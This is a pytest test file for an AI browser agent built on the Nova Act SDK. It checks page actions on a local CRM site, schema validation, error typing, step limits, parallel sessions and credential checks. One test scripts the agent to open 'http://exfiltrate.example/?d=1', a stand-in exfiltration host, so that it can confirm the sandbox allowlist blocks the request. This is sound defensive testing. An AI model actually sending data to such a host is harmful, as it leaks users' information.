"""The real Nova Act SDK and a real Chromium, against a loopback Nova Act service."""

from __future__ import annotations

import json
import sqlite3
from urllib.parse import urlsplit

import pytest

from graph import Context, Decision, Plan, RunStatus, Step, build_graph
from graph.testing import ScriptedChatModel
from tests.fixtures.nova_act_service import box_of, call, failure, observe_then
from tools import (
    BlockedError,
    BrowserPool,
    NovaActExecutor,
    SandboxPolicy,
    StepContext,
    StepRefused,
    ToolError,
    default_registry,
)

pytestmark = pytest.mark.browser
NOTES_SCHEMA = {"type": "object", "properties": {"notes": {"type": "integer"}},
                "required": ["notes"]}


@pytest.fixture
async def nova(site, nova_act_service):
    pool = BrowserPool()
    yield NovaActExecutor(pool)
    await pool.aclose()


@pytest.fixture
def step(site) -> StepContext:
    return StepContext(policy=SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,),
                                            browser_max_steps=5, browser_timeout_seconds=60))


def add_note_script(text: str, customer_url: str):
    def script(step: int, observation: dict):
        if step == 0:
            return observe_then(call("goToUrl", customer_url))
        if step == 1:
            return observe_then(call("agentType", text, box_of(observation, "<input")))
        if step == 2:
            return observe_then(call("agentClick", box_of(observation, "Add note")))
        count = observation["simplifiedDOM"].count(text)
        return [call("return", json.dumps({"notes": count}))]
    return script


async def test_act_types_clicks_and_returns_schema_valid_data(nova, step, site,
                                                              nova_act_service, tmp_path):
    nova_act_service.scripts.append(add_note_script("typed by nova act", f"{site}/customers/2"))
    out = await nova.extract("Open Globex, add the note 'typed by nova act' and count it",
                             f"{site}/customers", NOTES_SCHEMA, step)
    assert out["data"] == {"notes": 1} and out["steps"] == 4
    rows = sqlite3.connect(tmp_path / "crm.sqlite").execute("SELECT customer_id, text FROM notes")
    assert rows.fetchall() == [(2, "typed by nova act")]
    operations = [op for op, _ in nova_act_service.requests]
    assert operations[:3] == ["CreateWorkflowRun", "CreateSession", "CreateAct"]
    assert operations.count("InvokeActStep") == 4 and "UpdateAct" in operations
    urls = [o["activeURL"] for o in nova_act_service.observations]
    assert urls == [f"{site}/customers"] + [f"{site}/customers/2"] * 3


async def test_result_that_does_not_match_the_schema_is_an_error(nova, step, site,
                                                                 nova_act_service):
    nova_act_service.scripts.append(lambda step, obs: [call("return", json.dumps({"n": 1}))])
    with pytest.raises(ToolError) as raised:
        await nova.extract("count", f"{site}/customers/2", NOTES_SCHEMA, step)
    assert raised.value.type_name == "ActInvalidModelGenerationError"
    assert not raised.value.retryable


async def test_agent_failure_and_service_errors_are_typed(nova, step, site, nova_act_service):
    nova_act_service.scripts.append(lambda step, obs: [call("throw", "cannot find the form")])
    with pytest.raises(ToolError) as failed:
        await nova.act("add a note", f"{site}/customers/2", step)
    assert failed.value.type_name == "ActAgentFailed" and not failed.value.retryable

    nova_act_service.scripts.append(
        lambda step, obs: failure(500, "InternalServerException", "model fell over"))
    with pytest.raises(ToolError) as broken:
        await nova.act("add a note", f"{site}/customers/2", step)
    assert broken.value.retryable, broken.value.type_name


async def test_act_that_never_returns_exceeds_its_steps(nova, step, site, nova_act_service):
    nova_act_service.scripts.append(lambda step, obs: observe_then(call("think", "hmm")))
    with pytest.raises(ToolError) as raised:
        await nova.act("wander", f"{site}/customers", step)
    assert raised.value.type_name == "ActExceededMaxStepsError"
    assert sum(op == "InvokeActStep" for op, _ in nova_act_service.requests) == 5


async def test_navigation_outside_the_allowlist_is_blocked(nova, step, site, nova_act_service):
    nova_act_service.scripts.append(
        lambda step, obs: observe_then(call("goToUrl", "http://exfiltrate.example/?d=1")))
    with pytest.raises(BlockedError):
        await nova.act("follow the link", f"{site}/customers", step)
    with pytest.raises(BlockedError):
        await nova.act("start elsewhere", "http://exfiltrate.example/", step)


async def test_two_browser_steps_run_in_parallel_sessions(site, nova_act_service, isolated_env):
    nova_act_service.scripts += [
        lambda step, obs: [call("return", json.dumps({"notes": 0}))],
        lambda step, obs: [call("return", json.dumps({"notes": 0}))],
    ]
    plan = Plan(goal="g", steps=[
        Step(id=f"read{i}", tool="browser_extract",
             args={"instruction": "count notes", "start_url": f"{site}/customers/{i}",
                   "schema": NOTES_SCHEMA, "session": f"customer{i}"}) for i in (1, 2)])
    registry = default_registry()
    model = ScriptedChatModel(responses=[plan, Decision(action="finish", reason="ok"), "ok"])
    try:
        out = await build_graph(model=model, tools=registry).ainvoke(
            {"task": "t"}, context=Context(max_browser_sessions=2,
                                           allowed_hosts=[urlsplit(site).netloc]))
    finally:
        await registry.aclose()
    assert out["status"] == RunStatus.COMPLETED, out["reason"]
    assert [r.output["data"] for r in out["results"]] == [{"notes": 0}, {"notes": 0}]
    (a, a_ms), (b, b_ms) = [(r.started_at.timestamp(), r.duration_ms) for r in out["results"]]
    assert max(a, b) < min(a + a_ms / 1000, b + b_ms / 1000), "the sessions overlapped"
    assert sum(op == "CreateSession" for op, _ in nova_act_service.requests) == 2
    # Each step left the page as it ended, and Nova Act its own logs, in the run's folder.
    folder = isolated_env / "runs" / "default"
    shots = sorted(p.name for p in (folder / "steps").glob("*.png"))
    assert shots == ["v1-read1.png", "v1-read2.png"]
    assert all((folder / "steps" / name).read_bytes()[:4] == b"\x89PNG" for name in shots)
    assert any((folder / "nova_act").rglob("*"))


def test_without_credentials_the_planner_is_told_nova_act_is_unavailable():
    registry = default_registry()
    assert ("### browser_act(instruction: str, start_url: str, session?: str, secret?: str, "
            "submit?: bool) (may change things) (UNAVAILABLE: Nova Act needs credentials"
            ) in registry.describe()
    with pytest.raises(StepRefused, match="NOVA_ACT_API_KEY"):
        registry.check("browser_act", {"instruction": "x", "start_url": "http://127.0.0.1/"})
